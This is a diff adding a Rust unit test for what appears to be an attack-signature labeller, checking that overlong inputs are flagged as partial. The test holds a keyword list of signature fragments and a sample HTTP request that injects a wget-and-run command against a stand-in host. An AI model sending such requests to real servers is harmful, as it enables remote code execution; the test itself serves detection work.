@@ -298,3 +298,17 @@ fn hostile_requests_take_time_in_proportion() {
         );
     }
 }
+
+#[test]
+fn what_would_take_too_long_is_given_up_and_said() {
+    let labeller = Labeller::built_in();
+    let is_partial = |raw: &[u8]| labeller.describe(raw, None).is_partial;
+    // The beginnings of what a signature looks for, with its end missing.
+    let words = b"select union script passwd jndi ldap wget cmd exec php cgi-bin admin ../ ";
+    assert!(is_partial(&words.repeat(900)));
+    assert!(!is_partial(words));
+    assert!(!is_partial(
+        b"GET /cgi-bin/x?cmd=wget+http://192.0.2.7/x.sh;sh+x.sh HTTP/1.1\r\n\r\n"
+    ));
+    assert!(!is_partial(&b"x".repeat(65_536)));
+}
